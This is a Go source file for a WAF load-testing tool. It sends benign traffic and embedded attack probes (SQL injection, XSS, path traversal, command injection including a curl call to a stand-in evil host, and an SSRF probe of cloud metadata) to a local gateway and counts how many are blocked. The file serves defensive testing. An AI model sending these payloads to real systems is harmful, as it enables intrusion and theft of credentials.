// waf-loadgen is a tiny, dependency-free HTTP load generator for driving
// the gateway with a mix of benign and attack traffic. It reuses HTTP
// connections (keep-alive) and supports concurrency so demo scripts run
// fast without relying on external tools.
//
// Modes:
//   - benign: send N ordinary GET requests, no injected payloads
//   - attack: send N requests each carrying one payload from a chosen
//     category (or a round-robin across all categories)
//   - mixed:  interleave benign and attack traffic at a configurable ratio
//
// Usage examples:
//
//	waf-loadgen -base=http://127.0.0.1:8080 -mode=attack -category=SQLI -n=2000 -c=16
//	waf-loadgen -base=http://127.0.0.1:8080 -mode=mixed -attack_every=10 -n=8000 -c=16
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

type modeType string

const (
	modeBenign modeType = "benign"
	modeAttack modeType = "attack"
	modeMixed  modeType = "mixed"
)

// payloads mirrors the regex rule categories the gateway ships with by
// default, one representative string per category, carried as a query
// parameter value the way a real attacker would probe an endpoint.
var payloads = map[string][]string{
	"SQLI":      {"' OR '1'='1", "1; DROP TABLE users--", "UNION SELECT password FROM users"},
	"XSS":       {"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>"},
	"TRAVERSAL": {"../../../../etc/passwd", "..\\..\\windows\\win.ini"},
	"CMD":       {"; cat /etc/shadow", "$(curl evil.example/x)"},
	"SSRF":      {"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"},
}

var categoryOrder = []string{"SQLI", "XSS", "TRAVERSAL", "CMD", "SSRF"}

func main() {
	var (
		base        = flag.String("base", "http://127.0.0.1:8080", "Gateway base URL including scheme and host")
		path        = flag.String("path", "/search", "Request path probed on the upstream application")
		param       = flag.String("param", "q", "Query parameter name carrying the payload or benign value")
		modeS       = flag.String("mode", string(modeBenign), "Mode: benign|attack|mixed")
		category    = flag.String("category", "", "Attack category to use (SQLI|XSS|TRAVERSAL|CMD|SSRF); empty rotates through all")
		benignValue = flag.String("benign_value", "widgets", "Query value sent for benign requests")
		N           = flag.Int("n", 5000, "Total requests to send")
		conc        = flag.Int("c", 8, "Number of concurrent workers")
		attackEvery = flag.Int("attack_every", 10, "In mixed mode, send an attack request every Nth request (minimum 2)")
		timeout     = flag.Duration("timeout", 20*time.Second, "Overall timeout for the run")
		connIdle    = flag.Duration("idle_timeout", 30*time.Second, "HTTP idle connection timeout")
		maxIdle     = flag.Int("max_idle", 256, "Max idle connections total")
		maxIdlePer  = flag.Int("max_idle_per_host", 256, "Max idle connections per host")
	)
	flag.Parse()

	m := modeType(strings.ToLower(*modeS))
	if m != modeBenign && m != modeAttack && m != modeMixed {
		fmt.Fprintf(os.Stderr, "unknown -mode=%s (want benign|attack|mixed)\n", *modeS)
		os.Exit(2)
	}
	if *N <= 0 || *conc <= 0 {
		fmt.Fprintln(os.Stderr, "-n and -c must be > 0")
		os.Exit(2)
	}
	if m == modeMixed && *attackEvery < 2 {
		*attackEvery = 2
	}

	var cats []string
	if *category != "" {
		if _, ok := payloads[strings.ToUpper(*category)]; !ok {
			fmt.Fprintf(os.Stderr, "unknown -category=%s\n", *category)
			os.Exit(2)
		}
		cats = []string{strings.ToUpper(*category)}
	} else {
		cats = categoryOrder
	}

	baseURL := strings.TrimRight(*base, "/")
	p := *path
	if !strings.HasPrefix(p, "/") {
		p = "/" + p
	}
	fullPath := baseURL + p

	tr := &http.Transport{
		Proxy:               http.ProxyFromEnvironment,
		MaxIdleConns:        *maxIdle,
		MaxIdleConnsPerHost: *maxIdlePer,
		IdleConnTimeout:     *connIdle,
	}
	client := &http.Client{Transport: tr, Timeout: 5 * time.Second}

	ctx, cancel := context.WithTimeout(context.Background(), *timeout)
	defer cancel()

	start := time.Now()
	var sent, blocked, passed, errored int64

	attackValue := func(i, id int) string {
		cat := cats[(i+id)%len(cats)]
		set := payloads[cat]
		return set[(i+id)%len(set)]
	}

	worker := func(id, count int) {
		for i := 0; i < count; i++ {
			select {
			case <-ctx.Done():
				return
			default:
			}

			var v string
			switch m {
			case modeBenign:
				v = *benignValue
			case modeAttack:
				v = attackValue(i, id)
			case modeMixed:
				if ((i + id) % *attackEvery) == 0 {
					v = attackValue(i, id)
				} else {
					v = *benignValue
				}
			}

			u := fullPath + "?" + url.Values{*param: {v}}.Encode()
			req, _ := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
			resp, err := client.Do(req)
			atomic.AddInt64(&sent, 1)
			if err != nil {
				atomic.AddInt64(&errored, 1)
				time.Sleep(200 * time.Microsecond)
				continue
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			if resp.StatusCode == http.StatusForbidden || resp.StatusCode == http.StatusTooManyRequests {
				atomic.AddInt64(&blocked, 1)
			} else {
				atomic.AddInt64(&passed, 1)
			}
		}
	}

	per := *N / *conc
	rem := *N - per**conc
	var wg sync.WaitGroup
	wg.Add(*conc)
	for w := 0; w < *conc; w++ {
		count := per
		if w == *conc-1 {
			count += rem
		}
		go func(id, n int) {
			defer wg.Done()
			worker(id, n)
		}(w, count)
	}
	wg.Wait()

	elapsed := time.Since(start)
	if elapsed <= 0 {
		elapsed = time.Millisecond
	}
	ops := float64(sent) / elapsed.Seconds()
	fmt.Printf("WAFLoadGen: mode=%s N=%d c=%d go=%d Duration=%s Throughput=%.0f req/s sent=%d blocked=%d passed=%d errored=%d\n",
		m, *N, *conc, runtime.GOMAXPROCS(0), elapsed.Truncate(time.Millisecond), ops, sent, blocked, passed, errored)
}
